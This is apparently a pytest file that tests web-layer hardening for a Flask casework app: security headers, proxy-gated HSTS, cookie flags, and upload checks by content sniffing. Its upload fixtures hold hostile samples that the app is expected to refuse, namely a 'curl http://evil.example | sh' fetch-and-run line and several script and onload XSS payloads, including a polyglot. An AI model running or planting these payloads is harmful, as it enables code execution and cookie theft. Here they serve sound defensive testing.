"""Hardening of the web layer: security headers on every kind of response, HTTPS recognised only behind a
trusted proxy, cookie flags, and uploads judged by their bytes and size (never by name or declared type)."""

from __future__ import annotations

import hashlib
import io
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from flask import Flask
from flask.testing import EnvironBuilder, FlaskClient
from sqlalchemy import func, select
from werkzeug.test import TestResponse

from casework import create_app
from casework.cases.answers import ATTACHMENT_MAX, UPLOAD_REQUEST_MAX
from casework.cases.filing import file_case
from casework.cases.models import Case, CaseAttachment, CaseEvent, CompanyResponse
from casework.cases.states import CaseStatus
from casework.db import utcnow
from casework.letters.models import Letter
from casework.runtime import Runtime, runtime_of
from casework.staff.accounts import create_staff
from casework.web import limiter
from tests.api.test_api_cases import case_body
from tests.support.factories import case_facts
from tests.support.staff import PASSWORD, case_in_status, signed_in
from tests.support.web import csrf_token, filing_form, post_form
from tests.support.writes import writing

pytestmark = [pytest.mark.http, pytest.mark.storage]

PROXY = "10.20.30.40"
STRANGER = "192.0.2.7"
CASEY = "casey@casework.test"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 17
REQUIRED_CSP = ("object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'")


@contextmanager
def own_app(app: Flask, overrides: dict[str, Any], **changes: Any) -> Iterator[Flask]:
    """Another app on the same database whose rate-limit counters live in a fresh in-memory store.

    The limiter is one object per process and each new app re-points it; afterwards it goes back to the
    session app's store, emptied, so no count crosses into or out of these tests.
    """
    limiter.reset()
    other = create_app({**overrides, "ratelimit_enabled": True, "ratelimit_storage_url": "memory://", **changes})
    other.testing = True
    try:
        yield other
    finally:
        limiter.reset()
        limiter.init_app(app)
        limiter.reset()
        runtime_of(other).engine.dispose()


@pytest.fixture
def https_app(app: Flask, settings_overrides: dict[str, Any]) -> Iterator[Flask]:
    """Served at an https:// address behind a TLS-terminating proxy on 10.0.0.0/8."""
    with own_app(app, settings_overrides, base_url="https://casework.test", trusted_proxies="10.0.0.0/8") as other:
        yield other


def assert_security_headers(response: TestResponse) -> None:
    policy = response.headers.get("Content-Security-Policy", "")
    for directive in REQUIRED_CSP:
        assert directive in policy, (response.status_code, policy)
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "same-origin"


def count(runtime: Runtime, model: Any) -> int:
    with runtime.sessions() as session:
        return int(session.execute(select(func.count()).select_from(model)).scalar_one())


def case_with_letter(runtime: Runtime) -> tuple[str, int]:
    """A filed case whose letter is stored as a PDF; (status-page token, letter id)."""
    with writing(runtime) as session:
        filed = file_case(session, case_facts(), runtime.settings.secret_key)
        session.flush()
        letter = session.execute(select(Letter).where(Letter.case_id == filed.case_id)).scalars().first()
        if letter is None:
            letter = Letter(case_id=filed.case_id, kind="cancellation", data_snapshot={})
            session.add(letter)
        letter.status, letter.pdf, letter.sha256 = "rendered", PDF, hashlib.sha256(PDF).hexdigest()
        session.flush()
        return filed.access_token, letter.id


# Security headers ------------------------------------------------------------------------------------------

def test_every_kind_of_response_carries_the_security_headers(app: Flask, committed: Runtime) -> None:
    limiter.reset()
    client = app.test_client()
    token, letter_id = case_with_letter(committed)
    responses = {
        "page": client.get("/"),
        "json": client.get("/api/v1/providers"),
        "pdf": client.get(f"/c/{token}/letters/{letter_id}.pdf"),
        "static": client.get("/static/casework.css"),
        "redirect": client.get("/verify?code=7K2QF-M9XZA"),
        "404 page": client.get("/no-such-page"),
        "404 json": client.get("/api/v1/no-such-thing"),
        "405": client.delete("/"),
        "413 json": client.post("/api/v1/cases", data=b"{" + b" " * 70_000 + b"}",
                                content_type="application/json"),
        "413 page": client.post("/lost-link", data={"email": "x" * 70_000}),
    }
    expected = {"page": 200, "json": 200, "pdf": 200, "static": 200, "redirect": 303, "404 page": 404,
                "404 json": 404, "405": 405, "413 json": 413, "413 page": 413}
    assert {kind: r.status_code for kind, r in responses.items()} == expected
    assert responses["pdf"].headers["Content-Type"] == "application/pdf"
    assert responses["static"].headers["Content-Type"].startswith("text/css")
    for kind, response in responses.items():
        assert_security_headers(response)
        assert "Strict-Transport-Security" not in response.headers, kind  # plain http here
    assert responses["pdf"].headers["Cache-Control"] == "no-store"  # a consumer's private page
    for response in responses.values():
        response.close()  # the static file is sent from an open file


def test_a_dead_database_answers_503_with_the_headers(app: Flask, settings_overrides: dict[str, Any]) -> None:
    dead = "postgresql+psycopg://postgres@127.0.0.1:9/casework_unreachable?connect_timeout=2"
    with own_app(app, settings_overrides, database_url=dead) as down:
        client = down.test_client()
        page = client.get("/c/" + "a" * 43)
        api = client.get("/api/v1/cases/CW-XXXX-XXXX", headers={"Authorization": "Bearer " + "a" * 43})
    assert (page.status_code, api.status_code) == (503, 503)
    assert api.get_json()["error"] == "unavailable"
    assert "Temporarily unavailable" in page.get_data(as_text=True)
    for response in (page, api):
        assert_security_headers(response)


def test_filing_with_an_idempotency_key_while_the_database_is_down_is_503_not_409(
    app: Flask, settings_overrides: dict[str, Any]
) -> None:
    """A client retrying a keyed filing must hear "unavailable, retry", not "someone else holds this key"."""
    dead = "postgresql+psycopg://postgres@127.0.0.1:9/casework_unreachable?connect_timeout=2"
    with own_app(app, settings_overrides, database_url=dead) as down:
        reply = down.test_client().post("/api/v1/cases", json=case_body(),
                                        headers={"Idempotency-Key": "retry-while-down-0001"})
    assert reply.status_code == 503
    assert reply.get_json()["error"] == "unavailable"


def test_a_view_that_sets_its_own_policy_still_gets_the_required_directives(
    app: Flask, committed: Runtime
) -> None:
    limiter.reset()
    _, token = case_in_status_with_token(committed)
    client = app.test_client()
    response = upload(client, token, PDF, "reply.pdf", "application/pdf")
    assert response.status_code == 303
    with committed.sessions() as session:
        stored = session.execute(select(CaseAttachment)).scalar_one()
    download = client.get(f"/c/{token}/attachments/{stored.id}")
    assert download.headers["Content-Security-Policy"].startswith("sandbox; default-src 'none'")
    assert_security_headers(download)


# HTTPS only behind a trusted proxy -------------------------------------------------------------------------

def test_hsts_only_when_a_trusted_proxy_says_https(app: Flask, https_app: Flask) -> None:
    forwarded = {"X-Forwarded-Proto": "https"}
    via_proxy = https_app.test_client().get("/", headers=forwarded, environ_base={"REMOTE_ADDR": PROXY})
    assert via_proxy.headers["Strict-Transport-Security"].startswith("max-age=")
    assert_security_headers(via_proxy)
    # A client that reaches the app directly cannot claim HTTPS, nor can anyone on an app without proxies.
    direct = https_app.test_client().get("/", headers=forwarded, environ_base={"REMOTE_ADDR": STRANGER})
    unconfigured = app.test_client().get("/", headers=forwarded)
    plain_proxy = https_app.test_client().get("/", environ_base={"REMOTE_ADDR": PROXY})
    for response in (direct, unconfigured, plain_proxy):
        assert response.status_code == 200
        assert "Strict-Transport-Security" not in response.headers


def test_the_proxy_setting_is_checked_at_start_up(settings_overrides: dict[str, Any]) -> None:
    from casework.config import ConfigError, load_settings

    with pytest.raises(ConfigError, match="CASEWORK_TRUSTED_PROXIES"):
        load_settings({**settings_overrides, "trusted_proxies": "10.0.0.0/8, proxy.example"})
    settings = load_settings({**settings_overrides}, environ={"CASEWORK_TRUSTED_PROXIES": "127.0.0.1, ::1"})
    assert [str(n) for n in settings.trusted_proxy_networks] == ["127.0.0.1/32", "::1/128"]


# Cookies ---------------------------------------------------------------------------------------------------

def sign_in_cookies(client: FlaskClient, **request: Any) -> list[str]:
    token = csrf_token_from(client.get("/staff/login", **request))
    response = client.post("/staff/login", data={"csrf_token": token, "email": CASEY, "password": PASSWORD},
                           **request)
    assert response.status_code == 303, response.get_data(as_text=True)
    cookies = response.headers.getlist("Set-Cookie")
    assert any(cookie.startswith("session=") for cookie in cookies)
    return cookies


def csrf_token_from(response: TestResponse) -> str:
    from tests.support.web import CSRF_RE

    match = CSRF_RE.search(response.get_data(as_text=True))
    assert match is not None
    return match.group(1)


def test_sign_in_cookies_are_httponly_lax_and_secure_over_https(
    app: Flask, https_app: Flask, committed: Runtime
) -> None:
    with writing(committed) as session:
        create_staff(session, CASEY, "Casey Worker", PASSWORD)
    secure = sign_in_cookies(https_app.test_client(), base_url="https://casework.test",
                             headers={"X-Forwarded-Proto": "https", "Referer": "https://casework.test/staff/login"},
                             environ_base={"REMOTE_ADDR": PROXY})
    limiter.reset()
    plain = sign_in_cookies(app.test_client())
    for cookie in secure + plain:
        flags = [part.strip().lower() for part in cookie.split(";")]
        assert "httponly" in flags, cookie
        assert "samesite=lax" in flags, cookie
    assert all("secure" in [p.strip().lower() for p in cookie.split(";")] for cookie in secure)
    assert not any("secure" in [p.strip().lower() for p in cookie.split(";")] for cookie in plain)
    # Remember-me cookies (none is issued at sign-in today) would carry the same flags.
    assert https_app.config["REMEMBER_COOKIE_SECURE"] is True
    assert https_app.config["REMEMBER_COOKIE_HTTPONLY"] is True
    assert https_app.config["REMEMBER_COOKIE_SAMESITE"] == "Lax"


# Uploads ---------------------------------------------------------------------------------------------------

def case_in_status_with_token(runtime: Runtime) -> tuple[int, str]:
    """A confirmed, sent case (answers may be recorded); (case id, status-page token)."""
    with writing(runtime) as session:
        filed = file_case(session, case_facts(), runtime.settings.secret_key)
        session.flush()
        case = session.get_one(Case, filed.case_id)
        case.status = CaseStatus.SENT
        case.confirmed_at = case.email_confirmed_at = utcnow()
    return filed.case_id, filed.access_token


def multipart(client: FlaskClient, path: str, form: dict[str, Any]) -> TestResponse:
    """A browser's multipart post; the body is closed after, as a large one lives in a temporary file."""
    builder = EnvironBuilder(client.application, path=path, method="POST", data=form,
                             content_type="multipart/form-data")
    environ = builder.get_environ()
    try:
        return client.open(environ)
    finally:
        environ["wsgi.input"].close()
        builder.close()


def upload(client: FlaskClient, token: str, content: bytes, name: str, declared: str,
           summary: str = "They said no refunds.") -> TestResponse:
    today = utcnow().date().isoformat()
    return multipart(client, f"/c/{token}/answer", {
        "csrf_token": csrf_token(client, f"/c/{token}"), "answer.type": "refused", "answer.received_on": today,
        "answer.summary": summary, "answer.file": (io.BytesIO(content), name, declared)})


DISGUISED: dict[str, tuple[bytes, str, str]] = {
    "html-renamed-pdf": (b"<!doctype html><html><body><script>alert(document.cookie)</script>", "reply.pdf",
                         "application/pdf"),
    "script-as-png": (b"#!/bin/sh\ncurl http://evil.example | sh\n", "screenshot.png", "image/png"),
    "svg": (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "logo.svg",
            "image/svg+xml"),
    "svg-as-jpeg": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "photo.jpg",
                    "image/jpeg"),
    "gif": (b"GIF89a\x01\x00\x01\x00<script>alert(1)</script>", "reply.pdf", "application/pdf"),
    "almost-pdf": (b" %PDF-1.4 leading space is not a PDF", "reply.pdf", "application/pdf"),
}


@pytest.mark.parametrize(("content", "name", "declared"), list(DISGUISED.values()), ids=list(DISGUISED))
def test_a_consumer_file_that_is_not_pdf_png_or_jpeg_is_refused_whatever_it_claims(
    app: Flask, committed: Runtime, content: bytes, name: str, declared: str
) -> None:
    limiter.reset()
    _, token = case_in_status_with_token(committed)
    response = upload(app.test_client(), token, content, name, declared, summary="Kept as typed")
    page = response.get_data(as_text=True)
    assert response.status_code == 422
    assert 'id="answer-file-error"' in page
    assert "Kept as typed" in page
    assert (count(committed, CompanyResponse), count(committed, CaseAttachment)) == (0, 0)


def test_a_caseworker_file_that_is_not_pdf_png_or_jpeg_is_refused_whatever_it_claims(
    app: Flask, committed: Runtime
) -> None:
    client, reference = caseworker_on_a_case(app, committed)
    for kind, (content, name, declared) in DISGUISED.items():
        response = staff_upload(client, committed, reference, content, name, declared)
        assert response.status_code == 422, kind
        assert 'href="#response-file"' in response.get_data(as_text=True)
        assert (count(committed, CompanyResponse), count(committed, CaseAttachment)) == (0, 0)


def test_a_polyglot_with_a_pdf_header_is_kept_only_as_a_pdf_download(app: Flask, committed: Runtime) -> None:
    """The first bytes decide: declared HTML but starting like a PDF, it is stored and served as a PDF only."""
    limiter.reset()
    client = app.test_client()
    _, token = case_in_status_with_token(committed)
    polyglot = b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n"
    assert upload(client, token, polyglot, "page.html", "text/html").status_code == 303
    with committed.sessions() as session:
        stored = session.execute(select(CaseAttachment)).scalar_one()
        assert (stored.content_type, stored.filename) == ("application/pdf", "page.pdf")
    download = client.get(f"/c/{token}/attachments/{stored.id}")
    assert download.data == polyglot
    assert download.headers["Content-Type"] == "application/pdf"
    assert download.headers["Content-Disposition"] == 'attachment; filename="page.pdf"'
    assert "sandbox" in download.headers["Content-Security-Policy"]
    assert_security_headers(download)


@pytest.mark.parametrize("size", [ATTACHMENT_MAX + 1, UPLOAD_REQUEST_MAX + 1, 3 * ATTACHMENT_MAX])
def test_an_oversize_consumer_file_is_a_field_error_and_nothing_is_saved(
    app: Flask, committed: Runtime, size: int
) -> None:
    limiter.reset()
    case_id, token = case_in_status_with_token(committed)
    events_before = count(committed, CaseEvent)
    response = upload(app.test_client(), token, PDF + b"\0" * (size - len(PDF)), "big.pdf", "application/pdf")
    page = response.get_data(as_text=True)
    assert response.status_code in (413, 422)  # 413 when the request itself is over the limit
    assert 'id="answer-file-error"' in page
    assert "larger than" in page
    assert "5 MB" in page
    assert (count(committed, CompanyResponse), count(committed, CaseAttachment)) == (0, 0)
    assert count(committed, CaseEvent) == events_before
    with committed.sessions() as session:
        assert session.get_one(Case, case_id).status is CaseStatus.SENT


def test_an_oversize_request_on_another_case_form_or_a_wrong_link_is_the_plain_page(
    app: Flask, committed: Runtime
) -> None:
    limiter.reset()
    client = app.test_client()
    _, token = case_in_status_with_token(committed)
    big = (io.BytesIO(b"\0" * (UPLOAD_REQUEST_MAX + 1)), "big.pdf", "application/pdf")
    wrong_link = multipart(client, "/c/" + "b" * 43 + "/answer", {"answer.file": big})
    assert wrong_link.status_code == 413
    assert "larger than we accept" in wrong_link.get_data(as_text=True)
    assert 'id="answer-file-error"' not in wrong_link.get_data(as_text=True)
    refund = multipart(client, f"/c/{token}/refund", {"refund.amount": "1" * 100_000})
    assert refund.status_code == 413
    assert 'id="answer-file-error"' not in refund.get_data(as_text=True)


def caseworker_on_a_case(app: Flask, runtime: Runtime) -> tuple[FlaskClient, str]:
    with writing(runtime) as session:
        create_staff(session, CASEY, "Casey Worker", PASSWORD)
    return signed_in(app, CASEY), case_in_status(runtime, CaseStatus.SENT)


def staff_upload(client: FlaskClient, runtime: Runtime, reference: str, content: bytes, name: str,
                 declared: str) -> TestResponse:
    page = f"/staff/cases/{reference}"
    with runtime.sessions() as session:
        version = session.execute(select(Case.version).where(Case.reference == reference)).scalar_one()
    return multipart(client, f"{page}/responses", {
        "csrf_token": csrf_token(client, page), "version": str(version), "response.type": "refused",
        "response.received_on": utcnow().date().isoformat(), "response.summary": "They refused.",
        "response.file": (io.BytesIO(content), name, declared)})


def test_an_oversize_caseworker_file_is_a_field_error_and_nothing_is_saved(app: Flask, committed: Runtime) -> None:
    client, reference = caseworker_on_a_case(app, committed)
    for size, status in ((ATTACHMENT_MAX + 1, 422), (UPLOAD_REQUEST_MAX + 1, 413)):
        response = staff_upload(client, committed, reference, PDF + b"\0" * (size - len(PDF)), "big.pdf",
                                "application/pdf")
        assert response.status_code == status
        page = response.get_data(as_text=True)
        assert 'href="#response-file"' in page
        assert "5 MB" in page
        assert (count(committed, CompanyResponse), count(committed, CaseAttachment)) == (0, 0)
    # Someone not signed in who sends as much learns nothing about the case.
    anonymous = multipart(app.test_client(), f"/staff/cases/{reference}/responses",
                          {"response.file": (io.BytesIO(b"\0" * (UPLOAD_REQUEST_MAX + 1)), "big.pdf")})
    assert anonymous.status_code == 413
    assert reference not in anonymous.get_data(as_text=True)


ACCEPTED = [
    (PDF, "reply.PDF", "application/octet-stream", "application/pdf", "reply.pdf"),
    (PNG, "shot.pdf", "application/pdf", "image/png", "shot.png"),
    (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\0" * 32, "<img src=x>.html", "text/html", "image/jpeg", "img-src-x.jpg"),
]


def test_accepted_files_are_served_back_as_downloads_of_their_sniffed_type(app: Flask, committed: Runtime) -> None:
    client, reference = caseworker_on_a_case(app, committed)
    for content, name, declared, detected, stored_name in ACCEPTED:
        assert staff_upload(client, committed, reference, content, name, declared).status_code == 303
        with committed.sessions() as session:
            stored = session.execute(select(CaseAttachment).order_by(CaseAttachment.id.desc())).scalars().first()
            assert stored is not None
            assert (stored.content_type, stored.filename) == (detected, stored_name)
        download = client.get(f"/staff/cases/{reference}/attachments/{stored.id}")
        assert download.status_code == 200
        assert download.data == content
        assert download.headers["Content-Type"] == detected
        assert download.headers["Content-Disposition"] == f'attachment; filename="{stored_name}"'
        assert_security_headers(download)


def test_the_session_app_counts_and_resets_limits_after_the_apps_made_here(app: Flask, committed: Runtime) -> None:
    """The limiter is given back whole: the session app's limits count and reset as before."""
    limiter.reset()
    client = app.test_client()
    filings = [filing_form(**{"consumer.email": f"jane{n}@example.com"}) for n in range(5)]
    assert [post_form(client, "/", form).status_code for form in filings[:4]] == [303, 303, 303, 429]
    limiter.reset()
    assert post_form(client, "/", filings[4]).status_code == 303
